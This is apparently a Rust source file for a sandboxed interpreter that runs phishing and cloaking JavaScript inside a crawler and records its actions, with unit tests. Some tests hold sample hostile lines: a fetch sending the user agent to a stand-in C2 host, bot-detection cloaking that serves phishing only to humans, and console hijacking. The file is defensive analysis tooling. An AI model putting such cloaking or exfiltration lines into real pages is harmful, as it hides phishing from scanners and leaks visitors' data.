//! The MJS tree-walking interpreter and the [`Host`] boundary.

use crate::ast::{BinOp, Expr, Script, Stmt};
use crate::value::Value;
use std::collections::HashMap;
use std::fmt;

/// Execution-step budget: a cloaking script that spins (the paper's
/// `debugger`-timer loops) cannot wedge the crawler.
pub const MAX_STEPS: usize = 100_000;

/// Errors surfaced during execution.
#[derive(Debug, Clone, PartialEq)]
pub enum ScriptError {
    /// Reference to an undeclared variable (and not a host global).
    UndefinedVariable(String),
    /// Property read the host does not provide.
    UnknownProperty {
        /// The host object.
        object: String,
        /// The property.
        prop: String,
    },
    /// Call the host does not provide.
    UnknownFunction(String),
    /// A non-callable or non-object value was used as one.
    TypeError(String),
    /// The step budget was exhausted.
    BudgetExhausted,
    /// The host aborted execution (e.g. navigation happened).
    HostAbort(String),
}

impl fmt::Display for ScriptError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ScriptError::UndefinedVariable(n) => write!(f, "undefined variable {n}"),
            ScriptError::UnknownProperty { object, prop } => {
                write!(f, "unknown property {object}.{prop}")
            }
            ScriptError::UnknownFunction(n) => write!(f, "unknown function {n}"),
            ScriptError::TypeError(m) => write!(f, "type error: {m}"),
            ScriptError::BudgetExhausted => write!(f, "script step budget exhausted"),
            ScriptError::HostAbort(m) => write!(f, "host aborted: {m}"),
        }
    }
}

impl std::error::Error for ScriptError {}

/// The environment a script runs against. The browser (or a test double)
/// implements this; every observable action a phishing script can take goes
/// through here.
pub trait Host {
    /// Read `object.prop` (e.g. `("navigator", "userAgent")`). Dotted
    /// object paths occur for chained handles the host minted.
    fn get_prop(&mut self, object: &str, prop: &str) -> Result<Value, ScriptError>;

    /// Write `object.prop = value` (e.g. console hijacking, `location.href`).
    fn set_prop(&mut self, object: &str, prop: &str, value: Value) -> Result<(), ScriptError>;

    /// Call `object.method(args)` (e.g. `console.log`, `document.write`).
    fn call_method(
        &mut self,
        object: &str,
        method: &str,
        args: &[Value],
    ) -> Result<Value, ScriptError>;

    /// Call a bare global function (e.g. `fetch`, `atob`, `setInterval`).
    fn call_global(&mut self, func: &str, args: &[Value]) -> Result<Value, ScriptError>;

    /// A bare identifier that is not a declared variable: hosts expose
    /// global objects (`navigator`, `console`, `document`, `window`, …) by
    /// returning `Value::Ref`.
    fn global(&mut self, name: &str) -> Option<Value>;

    /// A `debugger;` statement executed (anti-analysis timing probes hook
    /// this).
    fn debugger_hit(&mut self) {}
}

/// Run `script` against `host`.
///
/// # Errors
///
/// Propagates [`ScriptError`] from evaluation or the host.
pub fn run(script: &Script, host: &mut dyn Host) -> Result<(), ScriptError> {
    let mut interp = Interp {
        vars: HashMap::new(),
        steps: 0,
    };
    interp.exec_block(&script.stmts, host)
}

struct Interp {
    vars: HashMap<String, Value>,
    steps: usize,
}

impl Interp {
    fn tick(&mut self) -> Result<(), ScriptError> {
        self.steps += 1;
        if self.steps > MAX_STEPS {
            Err(ScriptError::BudgetExhausted)
        } else {
            Ok(())
        }
    }

    fn exec_block(&mut self, stmts: &[Stmt], host: &mut dyn Host) -> Result<(), ScriptError> {
        for stmt in stmts {
            self.exec(stmt, host)?;
        }
        Ok(())
    }

    fn exec(&mut self, stmt: &Stmt, host: &mut dyn Host) -> Result<(), ScriptError> {
        self.tick()?;
        match stmt {
            Stmt::VarDecl { name, init } => {
                let v = self.eval(init, host)?;
                self.vars.insert(name.clone(), v);
            }
            Stmt::Assign { target, value } => {
                let v = self.eval(value, host)?;
                match target {
                    Expr::Ident(name) => {
                        // JS semantics: assignment creates/overwrites.
                        self.vars.insert(name.clone(), v);
                    }
                    Expr::Member { object, prop } => {
                        let obj = self.eval(object, host)?;
                        let Value::Ref(tag) = obj else {
                            return Err(ScriptError::TypeError(format!(
                                "cannot set property on {obj}"
                            )));
                        };
                        host.set_prop(&tag, prop, v)?;
                    }
                    _ => unreachable!("parser validates assignment targets"),
                }
            }
            Stmt::Expr(e) => {
                self.eval(e, host)?;
            }
            Stmt::If {
                cond,
                then_branch,
                else_branch,
            } => {
                if self.eval(cond, host)?.truthy() {
                    self.exec_block(then_branch, host)?;
                } else {
                    self.exec_block(else_branch, host)?;
                }
            }
            Stmt::While { cond, body } => {
                while self.eval(cond, host)?.truthy() {
                    self.tick()?;
                    self.exec_block(body, host)?;
                }
            }
            Stmt::Debugger => host.debugger_hit(),
        }
        Ok(())
    }

    fn eval(&mut self, expr: &Expr, host: &mut dyn Host) -> Result<Value, ScriptError> {
        self.tick()?;
        match expr {
            Expr::Number(n) => Ok(Value::Num(*n)),
            Expr::Str(s) => Ok(Value::Str(s.clone())),
            Expr::Bool(b) => Ok(Value::Bool(*b)),
            Expr::Null => Ok(Value::Null),
            Expr::Ident(name) => {
                if let Some(v) = self.vars.get(name) {
                    return Ok(v.clone());
                }
                host.global(name)
                    .ok_or_else(|| ScriptError::UndefinedVariable(name.clone()))
            }
            Expr::Member { object, prop } => {
                let obj = self.eval(object, host)?;
                match obj {
                    Value::Ref(tag) => host.get_prop(&tag, prop),
                    Value::Str(s) if prop == "length" => Ok(Value::Num(s.chars().count() as f64)),
                    other => Err(ScriptError::TypeError(format!(
                        "cannot read {prop} of {other}"
                    ))),
                }
            }
            Expr::Call { callee, args } => {
                let arg_values: Vec<Value> = args
                    .iter()
                    .map(|a| self.eval(a, host))
                    .collect::<Result<_, _>>()?;
                match &**callee {
                    Expr::Ident(name) => host.call_global(name, &arg_values),
                    Expr::Member { object, prop } => {
                        let obj = self.eval(object, host)?;
                        match obj {
                            Value::Ref(tag) => host.call_method(&tag, prop, &arg_values),
                            Value::Str(s) => eval_string_method(&s, prop, &arg_values),
                            other => Err(ScriptError::TypeError(format!(
                                "cannot call {prop} on {other}"
                            ))),
                        }
                    }
                    _ => Err(ScriptError::TypeError("callee is not callable".into())),
                }
            }
            Expr::Binary { op, lhs, rhs } => self.eval_binary(*op, lhs, rhs, host),
            Expr::Not(inner) => Ok(Value::Bool(!self.eval(inner, host)?.truthy())),
            Expr::Neg(inner) => {
                let v = self.eval(inner, host)?;
                v.as_num()
                    .map(|n| Value::Num(-n))
                    .ok_or_else(|| ScriptError::TypeError(format!("cannot negate {v}")))
            }
        }
    }

    fn eval_binary(
        &mut self,
        op: BinOp,
        lhs: &Expr,
        rhs: &Expr,
        host: &mut dyn Host,
    ) -> Result<Value, ScriptError> {
        // Short-circuit forms first.
        match op {
            BinOp::And => {
                let l = self.eval(lhs, host)?;
                return if l.truthy() {
                    self.eval(rhs, host)
                } else {
                    Ok(l)
                };
            }
            BinOp::Or => {
                let l = self.eval(lhs, host)?;
                return if l.truthy() {
                    Ok(l)
                } else {
                    self.eval(rhs, host)
                };
            }
            _ => {}
        }
        let l = self.eval(lhs, host)?;
        let r = self.eval(rhs, host)?;
        let num_op = |f: fn(f64, f64) -> f64| -> Result<Value, ScriptError> {
            match (l.as_num(), r.as_num()) {
                (Some(a), Some(b)) => Ok(Value::Num(f(a, b))),
                _ => Err(ScriptError::TypeError(format!(
                    "arithmetic on non-numbers ({l}, {r})"
                ))),
            }
        };
        let cmp = |f: fn(f64, f64) -> bool| -> Result<Value, ScriptError> {
            match (&l, &r) {
                (Value::Str(a), Value::Str(b)) => {
                    // lexicographic like JS string comparison
                    let ord = a.cmp(b);
                    let as_nums = match ord {
                        std::cmp::Ordering::Less => (-1.0, 0.0),
                        std::cmp::Ordering::Equal => (0.0, 0.0),
                        std::cmp::Ordering::Greater => (1.0, 0.0),
                    };
                    Ok(Value::Bool(f(as_nums.0, as_nums.1)))
                }
                _ => match (l.as_num(), r.as_num()) {
                    (Some(a), Some(b)) => Ok(Value::Bool(f(a, b))),
                    _ => Ok(Value::Bool(false)),
                },
            }
        };
        match op {
            BinOp::Add => {
                if matches!(l, Value::Str(_)) || matches!(r, Value::Str(_)) {
                    Ok(Value::Str(format!("{}{}", l.as_str(), r.as_str())))
                } else {
                    num_op(|a, b| a + b)
                }
            }
            BinOp::Sub => num_op(|a, b| a - b),
            BinOp::Mul => num_op(|a, b| a * b),
            BinOp::Div => num_op(|a, b| a / b),
            BinOp::Mod => num_op(|a, b| a % b),
            BinOp::Eq => Ok(Value::Bool(l.loose_eq(&r))),
            BinOp::Ne => Ok(Value::Bool(!l.loose_eq(&r))),
            BinOp::Lt => cmp(|a, b| a < b),
            BinOp::Le => cmp(|a, b| a <= b),
            BinOp::Gt => cmp(|a, b| a > b),
            BinOp::Ge => cmp(|a, b| a >= b),
            BinOp::And | BinOp::Or => unreachable!("handled above"),
        }
    }
}

/// Built-in string methods used by real cloaking scripts (UA substring
/// checks, token slicing, case folds).
fn eval_string_method(s: &str, method: &str, args: &[Value]) -> Result<Value, ScriptError> {
    match method {
        "indexOf" => {
            let needle = args.first().map(|v| v.as_str()).unwrap_or_default();
            Ok(Value::Num(match s.find(&needle) {
                Some(byte_pos) => s[..byte_pos].chars().count() as f64,
                None => -1.0,
            }))
        }
        "includes" => {
            let needle = args.first().map(|v| v.as_str()).unwrap_or_default();
            Ok(Value::Bool(s.contains(&needle)))
        }
        "startsWith" => {
            let needle = args.first().map(|v| v.as_str()).unwrap_or_default();
            Ok(Value::Bool(s.starts_with(&needle)))
        }
        "endsWith" => {
            let needle = args.first().map(|v| v.as_str()).unwrap_or_default();
            Ok(Value::Bool(s.ends_with(&needle)))
        }
        "toLowerCase" => Ok(Value::Str(s.to_lowercase())),
        "toUpperCase" => Ok(Value::Str(s.to_uppercase())),
        "trim" => Ok(Value::Str(s.trim().to_string())),
        "slice" | "substring" => {
            let chars: Vec<char> = s.chars().collect();
            let len = chars.len() as f64;
            let norm = |v: f64| -> usize {
                let idx = if v < 0.0 {
                    (len + v).max(0.0)
                } else {
                    v.min(len)
                };
                idx as usize
            };
            let start = norm(args.first().and_then(|v| v.as_num()).unwrap_or(0.0));
            let end = norm(args.get(1).and_then(|v| v.as_num()).unwrap_or(len));
            Ok(Value::Str(
                chars[start.min(chars.len())..end.max(start).min(chars.len())]
                    .iter()
                    .collect(),
            ))
        }
        "charAt" => {
            let i = args.first().and_then(|v| v.as_num()).unwrap_or(0.0) as usize;
            Ok(Value::Str(
                s.chars().nth(i).map(String::from).unwrap_or_default(),
            ))
        }
        "split" => Err(ScriptError::TypeError(
            "split is not supported (no array values in MJS)".into(),
        )),
        other => Err(ScriptError::UnknownFunction(format!("String.{other}"))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::hosts::RecordingHost;

    fn run_src(src: &str, host: &mut RecordingHost) -> Result<(), ScriptError> {
        let script = Script::parse(src).unwrap();
        run(&script, host)
    }

    #[test]
    fn arithmetic_and_variables() {
        let mut h = RecordingHost::new();
        run_src("var a = 2 + 3 * 4; console.log(a);", &mut h).unwrap();
        assert_eq!(h.console_lines(), ["14"]);
    }

    #[test]
    fn string_concatenation() {
        let mut h = RecordingHost::new();
        run_src("console.log('ua=' + 7);", &mut h).unwrap();
        assert_eq!(h.console_lines(), ["ua=7"]);
    }

    #[test]
    fn if_else_on_host_env() {
        let mut h = RecordingHost::new();
        h.set_env("navigator.webdriver", Value::Bool(true));
        run_src(
            "if (navigator.webdriver) { document.write('benign'); } else { document.write('phish'); }",
            &mut h,
        )
        .unwrap();
        assert_eq!(h.writes(), ["benign"]);
    }

    #[test]
    fn while_loop_accumulates() {
        let mut h = RecordingHost::new();
        run_src(
            "var i = 0; var s = ''; while (i < 3) { s = s + i; i = i + 1; } console.log(s);",
            &mut h,
        )
        .unwrap();
        assert_eq!(h.console_lines(), ["012"]);
    }

    #[test]
    fn infinite_loop_hits_budget() {
        let mut h = RecordingHost::new();
        let e = run_src("while (true) { debugger; }", &mut h).unwrap_err();
        assert_eq!(e, ScriptError::BudgetExhausted);
        assert!(h.debugger_hits() > 1000);
    }

    #[test]
    fn short_circuit_does_not_evaluate_rhs() {
        let mut h = RecordingHost::new();
        // fetch would record; short-circuit must skip it
        run_src("var x = false && fetch('https://c2.example/');", &mut h).unwrap();
        assert!(h.fetches().is_empty());
        run_src("var y = true || fetch('https://c2.example/');", &mut h).unwrap();
        assert!(h.fetches().is_empty());
    }

    #[test]
    fn method_chain_via_host() {
        let mut h = RecordingHost::new();
        h.set_env("intl.timeZone", Value::from("Europe/Paris"));
        run_src(
            "var tz = Intl.DateTimeFormat().resolvedOptions().timeZone; console.log(tz);",
            &mut h,
        )
        .unwrap();
        assert_eq!(h.console_lines(), ["Europe/Paris"]);
    }

    #[test]
    fn string_methods() {
        let mut h = RecordingHost::new();
        h.set_env(
            "navigator.userAgent",
            Value::from("Mozilla/5.0 HeadlessChrome/119"),
        );
        run_src(
            r#"
            var ua = navigator.userAgent;
            if (ua.indexOf('HeadlessChrome') >= 0) { document.write('bot'); }
            console.log(ua.toLowerCase().includes('headless'));
            console.log(ua.slice(0, 7));
            "#,
            &mut h,
        )
        .unwrap();
        assert_eq!(h.writes(), ["bot"]);
        assert_eq!(h.console_lines(), ["true", "Mozilla"]);
    }

    #[test]
    fn string_length_property() {
        let mut h = RecordingHost::new();
        run_src("console.log('abcd'.length);", &mut h).unwrap();
        assert_eq!(h.console_lines(), ["4"]);
    }

    #[test]
    fn undefined_variable_is_error() {
        let mut h = RecordingHost::new();
        assert_eq!(
            run_src("var a = nosuchthing;", &mut h),
            Err(ScriptError::UndefinedVariable("nosuchthing".into()))
        );
    }

    #[test]
    fn member_write_reaches_host() {
        let mut h = RecordingHost::new();
        run_src(
            "console.log = 'hijacked'; location.href = 'https://next.example/';",
            &mut h,
        )
        .unwrap();
        assert_eq!(
            h.prop_writes(),
            [
                (
                    "console".to_string(),
                    "log".to_string(),
                    "hijacked".to_string()
                ),
                (
                    "location".to_string(),
                    "href".to_string(),
                    "https://next.example/".to_string()
                )
            ]
        );
    }

    #[test]
    fn atob_btoa_round_trip() {
        let mut h = RecordingHost::new();
        run_src(
            "var enc = btoa('secret payload'); var dec = atob(enc); console.log(dec);",
            &mut h,
        )
        .unwrap();
        assert_eq!(h.console_lines(), ["secret payload"]);
    }

    #[test]
    fn fetch_records_url_and_body() {
        let mut h = RecordingHost::new();
        h.set_env("navigator.userAgent", Value::from("UA"));
        run_src(
            "fetch('https://c2.example/collect', navigator.userAgent);",
            &mut h,
        )
        .unwrap();
        assert_eq!(
            h.fetches(),
            [("https://c2.example/collect".to_string(), "UA".to_string())]
        );
    }

    #[test]
    fn comparison_on_strings() {
        let mut h = RecordingHost::new();
        run_src(
            "console.log('abc' == 'abc'); console.log('a' < 'b');",
            &mut h,
        )
        .unwrap();
        assert_eq!(h.console_lines(), ["true", "true"]);
    }

    #[test]
    fn negative_numbers_and_unary_not() {
        let mut h = RecordingHost::new();
        run_src("console.log(-3 + 5); console.log(!0);", &mut h).unwrap();
        assert_eq!(h.console_lines(), ["2", "true"]);
    }

    #[test]
    fn type_error_on_bad_negation() {
        let mut h = RecordingHost::new();
        assert!(matches!(
            run_src("var x = -'abc';", &mut h),
            Err(ScriptError::TypeError(_))
        ));
    }
}
